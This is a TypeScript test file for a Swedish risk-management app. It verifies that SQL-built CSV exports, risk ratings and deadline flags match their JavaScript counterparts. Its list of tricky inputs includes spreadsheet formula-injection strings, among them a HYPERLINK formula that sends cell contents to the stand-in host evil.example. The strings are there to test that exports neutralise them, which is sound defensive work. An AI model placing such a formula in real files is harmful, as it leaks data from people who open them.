import t from 'tap';
import { sql } from 'drizzle-orm';
import { buildTestApp, token } from './helper.js';
import { rawRows } from '../src/db/raw.js';
import { seedPlan, servicenamndenVor, smallVor } from './fixtures/seed-plan.js';
import { BOM, CSV_DELIMITERS, csvField, csvFieldSql, csvLine, csvLineSql, sqlField } from '../src/modules/exports/csv.js';
import { columnNames, csvInSql, DATASET_NAMES, DATASETS, type Cell } from '../src/modules/exports/export-datasets.js';
import { exportSqlDeadlines, isOverdue, OPEN_ACTION_STATUSES, pastDeadline, reportedLate } from '../src/modules/follow-ups/index.js';
import { bandOrder, defaultMatrix, deriveRisk, exportSqlRisk, type IkpOverride, type RiskMatrix } from '../src/modules/risks/risk-matrix.js';

// CSV lines built in the database (issue 17) must be byte for byte what the JS mapping and csvLine give.

const { app, database } = await buildTestApp(t);
const db = database.db;
await seedPlan(db, servicenamndenVor());
await seedPlan(db, smallVor('KS', 2026));
const auth = { authorization: `Bearer ${token('admin')}` };

const TRICKY = [
  '', ' ', 'plain', '=1+2', '+46 8 123', '-1', '@SUM(A1)', '\tx', '\rx', '\nx', 'x\r\ny', 'a;b', 'a,b', 'say "hi"', '"',
  '""', "'quote", "=\"a;b\"", '-', '+', '=', '@', ' =not first', 'a\\b', 'å ä ö Å Ä Ö', 'emoji 🙂 ∑ 中文', 'tab\tinside',
  'x;', ';x', ',x', 'x,', '\x01=x', 'a\x01', '\x01', '\u00a0=nbsp', 'line\nbreak', 'cr\r', '\r', '\n', '\t', "=HYPERLINK(\"http://evil.example/?\"&A2,\"Klicka\")",
];

t.test('csvFieldSql quotes and neutralises exactly as csvField', async (t) => {
  for (const delimiter of Object.values(CSV_DELIMITERS)) {
    for (const value of TRICKY) {
      const [row] = await rawRows<{ f: string | null }>(db, sql`select ${csvFieldSql(sqlField(sql`${value}::text`, 'text'), delimiter)} as f`);
      t.equal(row.f ?? '', csvField(value, delimiter), `${JSON.stringify(value)} with ${delimiter}`);
    }
    const [nul] = await rawRows<{ f: string | null }>(db, sql`select ${csvFieldSql(sqlField(sql`null::text`, 'text'), delimiter)} as f`);
    t.equal(nul.f ?? '', csvField(null, delimiter), 'null is empty');
    for (const [value, type] of [[-12, 'integer'], [0, 'integer'], [null, 'integer'], [true, 'boolean'], [false, 'boolean'], [null, 'boolean']] as const) {
      const typed = type === 'integer' ? sql`${value}::int` : sql`${value}::boolean`;
      const [row] = await rawRows<{ f: string | null }>(db, sql`select ${csvFieldSql(sqlField(typed, type), delimiter)} as f`);
      t.equal(row.f ?? '', csvField(value as Cell, delimiter), `${type} ${String(value)}`);
    }
    // Whole lines: a clean row takes the guarded line, a row with any special character the fully quoted one.
    const uuid = '0a1b2c3d-0000-4000-8000-00000000000f';
    for (const [i, a] of TRICKY.entries()) {
      const b = TRICKY[(i * 7 + 3) % TRICKY.length];
      for (const [x, y] of [[a, b], [a, 'clean'], ['clean', a], [null, a]]) {
        const fields = [sqlField(sql`${x}::text`, 'text'), sqlField(sql`${i}::int`, 'integer'), sqlField(sql`${i % 2 === 0}::boolean`, 'boolean'), sqlField(sql`${uuid}::uuid`, 'uuid'), sqlField(sql`${y}::text`, 'text')];
        const [row] = await rawRows<{ line: string }>(db, sql`select ${csvLineSql(fields, delimiter)} as line`);
        t.equal(row.line, csvLine([x, i, i % 2 === 0, uuid, y], delimiter), `line ${JSON.stringify([x, y])} with ${delimiter}`);
      }
    }
  }
});

t.test('exportSqlRisk agrees with deriveRisk and bandOrder on every cell, threshold and override', async (t) => {
  // The default matrix, and one with its own band order, a duplicated key and a cell naming no band.
  const custom: RiskMatrix = defaultMatrix();
  custom.bands = [{ key: 'KRITISK', label: 'Kritisk', color: '#C00000' }, ...custom.bands, { key: 'LAG', label: 'Låg igen', color: '#000000' }];
  custom.cells[0][0] = 'OKAND';
  custom.cells[4][4] = 'LAG';
  let checked = 0;
  for (const matrix of [defaultMatrix(), custom]) {
    const values: { l: number | null; c: number | null }[] = [{ l: null, c: null }, { l: null, c: 3 }, { l: 3, c: null }, { l: 0, c: 3 }, { l: 3, c: 6 }];
    for (const l of [1, 2, 3, 4, 5]) for (const c of [1, 2, 3, 4, 5]) values.push({ l, c });
    const cases = values.flatMap((v) => [1, 9, 12, 25].flatMap((thr) => ([null, 'INCLUDE', 'EXCLUDE'] as const).map((o) => ({ ...v, o, thr }))));
    const d = exportSqlRisk({
      likelihood: sql`k.l`,
      consequence: sql`k.c`,
      ikpOverride: sql`k.o`,
      ikpThreshold: sql`k.thr`,
      matrix: sql`${JSON.stringify(matrix)}::jsonb`,
    });
    const rows = await rawRows<{ i: number; rv: number | null; in_ikp: boolean; basis: string; key: string | null; label: string | null; color: string | null; ord: number | string | null }>(
      db,
      sql`select k.i, ${d.rv} as rv, ${d.inIkp} as in_ikp, ${d.ikpBasis} as basis, b.key, b.label, b.color, b.ord
        from jsonb_to_recordset(${JSON.stringify(cases.map((k, i) => ({ ...k, i })))}::jsonb) as k(i int, l smallint, c smallint, o text, thr int)
        ${d.bandJoin('b')} order by k.i`,
    );
    t.equal(rows.length, cases.length);
    for (const row of rows) {
      const k = cases[row.i];
      const js = deriveRisk({ likelihood: k.l, consequence: k.c, ikpOverride: k.o as IkpOverride | null, ikpMotivation: 'm' }, { ikpThreshold: k.thr, matrix });
      const expected = {
        rv: js.rv,
        in_ikp: js.inIkp,
        basis: js.ikpBasis,
        key: js.band?.key ?? null,
        label: js.band?.label ?? null,
        color: js.band?.color ?? null,
        ord: js.band ? bandOrder(matrix, js.band) : null,
      };
      const got = { rv: row.rv === null ? null : Number(row.rv), in_ikp: row.in_ikp, basis: row.basis, key: row.key, label: row.label, color: row.color, ord: row.ord === null ? null : Number(row.ord) };
      if (JSON.stringify(got) !== JSON.stringify(expected)) t.fail(`${JSON.stringify(k)}: SQL ${JSON.stringify(got)}, JS ${JSON.stringify(expected)}`);
      checked++;
    }
  }
  t.ok(checked > 500, `${checked} cases agree`);
});

t.test('exportSqlDeadlines agrees with reportedLate, pastDeadline and isOverdue, around Stockholm midnights and DST', async (t) => {
  const days = ['2026-03-28', '2026-03-29', '2026-03-30', '2026-04-30', '2026-05-01', '2026-08-31', '2026-10-24', '2026-10-25', '2026-10-26', '2026-12-31', '2027-01-01'];
  // Instants on both sides of each day's Stockholm midnight (UTC+1 in winter, +2 in summer) and in the DST hours.
  const instants = days.flatMap((d) =>
    ['T21:59:59.999Z', 'T22:00:00.000Z', 'T22:30:00.000Z', 'T22:59:59.999Z', 'T23:00:00.000Z', 'T23:00:00.001Z', 'T00:30:00.000Z', 'T01:00:00.000Z', 'T02:30:00.000Z', 'T12:00:00.000Z'].map((h) => `${d}${h}`),
  );
  const statuses = ['NOT_STARTED', 'IN_PROGRESS', 'REPORTED', ...OPEN_ACTION_STATUSES, 'DONE', 'CANCELLED', 'CARRIED_OVER'];
  const cases = instants.flatMap((at, i) => [{ at, due: days[i % days.length], today: days[(i * 3) % days.length], status: statuses[i % statuses.length] }, { at: null, due: days[(i + 1) % days.length], today: days[i % days.length], status: statuses[(i + 2) % statuses.length] }]);
  const nullDue = cases.slice(0, 20).map((k) => ({ ...k, due: null }));
  const all = [...cases, ...nullDue];
  const rows = await rawRows<{ i: number; late: boolean; past: boolean; overdue: boolean }>(
    db,
    sql`select k.i, ${exportSqlDeadlines.reportedLate(sql`k.at`, sql`k.due`)} as late, ${exportSqlDeadlines.pastDeadline(sql`k.status`, sql`k.due`, sql`k.today`)} as past,
      ${exportSqlDeadlines.isOverdue(sql`k.status`, sql`k.due`, sql`k.today`)} as overdue
      from jsonb_to_recordset(${JSON.stringify(all.map((k, i) => ({ ...k, i })))}::jsonb) as k(i int, at timestamptz, due date, today date, status text) order by k.i`,
  );
  t.equal(rows.length, all.length);
  for (const row of rows) {
    const k = all[row.i];
    const js = {
      late: k.due === null ? false : reportedLate(k.at === null ? null : new Date(k.at), k.due),
      past: k.due === null ? false : pastDeadline(k.status, k.due, k.today),
      overdue: isOverdue({ status: k.status, dueDate: k.due }, k.today),
    };
    t.same({ late: row.late, past: row.past, overdue: row.overdue }, js, JSON.stringify(k));
  }
});

t.test('every dataset built in SQL: its CSV is csvLine of its JSON rows, byte for byte, with either delimiter', async (t) => {
  // Tricky text in every kind of text column the datasets carry.
  const ids = await rawRows<{ id: string }>(db, sql`select id from risks order by id`);
  for (const [i, { id }] of ids.entries()) {
    const v = TRICKY[i % TRICKY.length];
    await db.execute(sql`update risks set title = ${`${v}${i % 3 ? ' titel' : ''}`}, ikp_motivation = ${i % 2 ? v : null} where id = ${id}`);
  }
  await db.execute(sql`update processes set name = ${'=process; "x"\r\n'} where id = (select min(id::text)::uuid from processes)`);
  await db.execute(sql`update controls set description = ${'-kontroll,'} where id = (select min(id::text)::uuid from controls)`);
  await db.execute(sql`update actions set tags = ${'{"=a;b","-c,d","e\\"f"}'}::text[], owner = '@ägare'`);
  await db.execute(sql`update goals set title = ${'+mål\t"x"'} where id = (select min(id::text)::uuid from goals)`);
  let compared = 0;
  for (const name of DATASET_NAMES.filter((n) => csvInSql(DATASETS[n]))) {
    const json = await app.inject({ url: `/api/v1/exports/${name}.json?top=50000`, headers: auth });
    t.equal(json.statusCode, 200, name);
    const rows = json.json().value as Record<string, Cell>[];
    if (name !== 'audit-events') t.ok(rows.length, `${name} has rows`);
    const names = columnNames(DATASETS[name]);
    for (const [param, delimiter] of [['', ';'], ['?delimiter=comma', ',']]) {
      const csv = await app.inject({ url: `/api/v1/exports/${name}.csv${param}`, headers: auth });
      const expected = BOM + csvLine(names, delimiter) + rows.map((r) => csvLine(names.map((n) => r[n]), delimiter)).join('');
      t.equal(csv.body, expected, `${name} with ${delimiter}`);
      compared++;
    }
  }
  t.ok(compared >= 2 * 16, 'every dataset but namnd-years is built in SQL');
});
